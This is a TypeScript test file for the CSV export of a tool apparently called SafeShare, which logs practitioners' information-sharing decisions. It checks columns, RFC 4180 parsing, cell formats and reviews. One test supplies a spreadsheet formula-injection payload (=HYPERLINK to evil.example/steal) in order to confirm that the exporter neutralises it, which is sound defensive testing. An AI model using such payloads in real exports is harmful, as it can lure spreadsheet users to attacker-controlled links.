import {
  CONSENT_FORM_TERMS,
  CSV_COLUMNS,
  CSV_EXPORT_COLUMNS,
  csvLine,
  type DecisionRecord,
  prefillFrom,
  recordCsvCells,
  recordCsvLine,
  recordFromAnswers,
  recordsCsv,
  RULES,
  type RuleId,
} from "../../../src/core/decision";
import { ALL_CONFIRMED, ANALYSIS, baseAnswers, context } from "./fixtures";
import { varietyOfEntries } from "./record-variety";

/** RFC 4180 read back: CRLF records, quoted cells with doubled quotes (line breaks allowed inside). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) throw new Error("the CSV does not end with CRLF");
  return rows;
}

const isJsonStructure = (cell: string): boolean => {
  try {
    const parsed: unknown = JSON.parse(cell);
    return typeof parsed === "object" && parsed !== null;
  } catch {
    return false;
  }
};

function recordWith(overrides: Parameters<typeof baseAnswers>[0], analysis = ANALYSIS): DecisionRecord {
  const flags = prefillFrom(analysis).flags;
  const rightWay = { ...ALL_CONFIRMED, flagResolutions: flags.map((f, i) => ({ flagId: f.id, resolution: i === 0 ? ({ kind: "overridden", reason: "Mum's own address, agreed." } as const) : ({ kind: "fixed" } as const) })) };
  const built = recordFromAnswers({ answers: baseAnswers({ rightWay, lawfulBasis: { article6: "public-task", article9: "health-or-social-care" }, ...overrides }), analysis, context: context() });
  if (built.kind !== "record") throw new Error(JSON.stringify(built));
  return built.record;
}

const cellOf = (record: DecisionRecord, column: string): string => {
  const i = CSV_COLUMNS.indexOf(column);
  if (i < 0) throw new Error(`no column ${column}`);
  return String(recordCsvCells({ itemId: "7", record, review: null })[i]);
};

const EXPECTED_COLUMNS = [
  "Record id",
  "Decided at (UTC)",
  "Practitioner",
  "Practitioner object id",
  "Team",
  "Channel",
  "Message",
  "Subject",
  "Recipients",
  "Purpose",
  "Decision",
  "SafeShare recommended",
  "Why",
  "Reasons",
  "What was shared",
  "What was withheld",
  "Consent",
  "Lawful basis (Article 6)",
  "Article 9 condition",
  "Public interest",
  "Significant harm",
  "Informing the individual",
  "Advice",
  "Flags",
  "Flags overridden",
  "Attachments",
  "Shared text SHA-256",
  "Policy version",
  "App version",
  "Previous record hash",
  "Record hash",
  "Reviewed",
  "Reviewed by",
  "Reviewed at (UTC)",
  "Review comment",
  "List item id",
];

describe("CSV export columns", () => {
  it.each(EXPECTED_COLUMNS.map((name, i) => [i + 1, name] as const))("column %i is %s", (position, name) => {
    expect(CSV_COLUMNS[position - 1]).toBe(name);
  });

  it("has exactly those columns, each saying what it holds, and the header line names them", () => {
    expect(CSV_COLUMNS).toEqual(EXPECTED_COLUMNS);
    expect(CSV_EXPORT_COLUMNS.every((c) => c.holds.length > 10)).toBe(true);
    expect(recordsCsv([])).toBe(`${EXPECTED_COLUMNS.join(",")}\r\n`);
  });
});

describe("CSV export rows", () => {
  const entries = varietyOfEntries();
  const csv = recordsCsv(entries);
  const rows = parseCsv(csv);

  it("reads back (RFC 4180) as one row per record, every row as wide as the header", () => {
    expect(entries.length).toBeGreaterThan(150);
    expect(rows).toHaveLength(entries.length + 1);
    expect(rows[0]).toEqual(EXPECTED_COLUMNS);
    for (const row of rows) expect(row).toHaveLength(EXPECTED_COLUMNS.length);
    // The file is exactly its lines: one function builds each row.
    expect(csv).toBe(csvLine(CSV_COLUMNS) + entries.map((e) => recordCsvLine(e.itemId, e.record, e.review)).join(""));
  });

  it("never holds JSON: no cell parses as an object or array, none starts with { or [", () => {
    const cells = rows.slice(1).flat();
    expect(cells.length).toBeGreaterThan(150 * EXPECTED_COLUMNS.length);
    expect(cells.filter(isJsonStructure)).toEqual([]);
    expect(cells.filter((c) => /^[{[]/.test(c) || /"[a-zA-Z]+":/.test(c))).toEqual([]);
    expect(cells.filter((c) => c.includes("undefined") || c === "null" || c.includes("[object"))).toEqual([]);
  });

  it("never shows a rule id, only what the rules said", () => {
    const why = CSV_COLUMNS.indexOf("Why");
    for (const [i, row] of rows.slice(1).entries()) {
      const record = entries[i]?.record as DecisionRecord;
      expect(row[why]).toBe(record.recommendation.rules.map((id) => RULES[id as RuleId].says).join(" "));
      for (const id of record.recommendation.rules) expect(row.join("\n")).not.toContain(id);
    }
  });

  it("writes times as UTC ISO 8601 to the second, and Yes/No for yes-or-no columns", () => {
    const col = (name: string) => rows.slice(1).map((r) => r[CSV_COLUMNS.indexOf(name)] as string);
    for (const t of col("Decided at (UTC)")) expect(t).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    for (const t of col("Reviewed at (UTC)").filter((t) => t !== "")) expect(t).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    expect(col("Reviewed at (UTC)")).toContain("2026-03-04T08:00:00Z");
    for (const name of ["Significant harm", "Reviewed"]) expect(new Set(col(name))).toEqual(new Set(["Yes", "No"]));
    for (const n of col("Flags overridden")) expect(n).toMatch(/^\d+$/);
  });
});

describe("CSV export cells", () => {
  const record = recordWith({ consent: { kind: "obtained", form: "explicit-written", whose: [{ kind: "parental-responsibility" }], coversThisSharing: "yes" } });

  it.each([
    ["Record id", record.recordId],
    ["Decided at (UTC)", "2026-11-25T09:00:00Z"],
    ["Practitioner", "jo.smith@herts.gov.uk"],
    ["Channel", "Email"],
    ["Message", "Email, SafeShare header id <safeshare-1@herts.gov.uk>"],
    ["Subject", "Not recorded (organisation policy)"],
    ["Recipients", "s.jones@gmail.com (personal (webmail)); duty@herts.police.uk (secure)"],
    ["Purpose", "A child in need, or early help"],
    ["Decision", "Share"],
    ["SafeShare recommended", "Share"],
    ["Consent", `Obtained, ${CONSENT_FORM_TERMS["explicit-written"].label.toLowerCase()}; covers this sharing: Yes — whose: A person with parental responsibility`],
    ["Significant harm", "No"],
    ["Informing the individual", "Will inform"],
    ["Advice", "None sought"],
    ["Flags overridden", "1"],
    ["Reviewed", "No"],
    ["Reviewed by", ""],
    ["List item id", "7"],
  ])("%s: %s", (column, expected) => {
    expect(cellOf(record, column)).toBe(expected);
  });

  it("writes consent in plain English (Obtained, explicit consent, in writing…)", () => {
    expect(cellOf(record, "Consent")).toMatch(/^Obtained, explicit consent, in writing; covers this sharing: Yes/);
  });

  it("writes each flag as flag: resolution — reason, joined by \"; \"", () => {
    const flags = cellOf(record, "Flags").split("; ");
    expect(flags).toHaveLength(record.flags.length);
    expect(flags[0]).toBe("s.jones@gmail.com is a personal (webmail) address: use a secure route (for example add [secure] to the subject when sending from NHSmail, or your organisation's encryption option), or remove it: overridden — Mum's own address, agreed.");
    expect(flags.slice(1).every((f) => f.endsWith(": fixed"))).toBe(true);
  });

  it("neutralises a formula in the reasons (and anywhere else)", () => {
    const evil = recordWith({ decision: { kind: "share", reasons: '=HYPERLINK("http://evil.example/steal","Click")', whatShared: "+44 1234 567890" } });
    const line = recordCsvLine("1", evil, null);
    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/steal"",""Click"")",'+44 1234 567890,`);
    expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
    const row = parseCsv(line)[0] as string[];
    expect(row[CSV_COLUMNS.indexOf("Reasons")]).toBe(`'=HYPERLINK("http://evil.example/steal","Click")`);
  });

  it("falls back to the id for a rule this SafeShare does not know (an older record)", () => {
    const older = { ...record, recommendation: { value: "share", rules: ["purpose.legitimate", "purpose.retired-rule"] } } as unknown as DecisionRecord;
    expect(cellOf(older, "Why")).toBe(`${RULES["purpose.legitimate"].says} purpose.retired-rule`);
  });

  it("writes a review: who, when (to the second) and the comment", () => {
    const cells = recordCsvCells({ itemId: "9", record, review: { reviewedBy: "sam.manager@herts.gov.uk" as never, reviewedAt: "2026-03-04T08:00:00.500Z", comment: "Fine." } });
    const at = (name: string) => cells[CSV_COLUMNS.indexOf(name)];
    expect([at("Reviewed"), at("Reviewed by"), at("Reviewed at (UTC)"), at("Review comment")]).toEqual(["Yes", "sam.manager@herts.gov.uk", "2026-03-04T08:00:00Z", "Fine."]);
  });
});
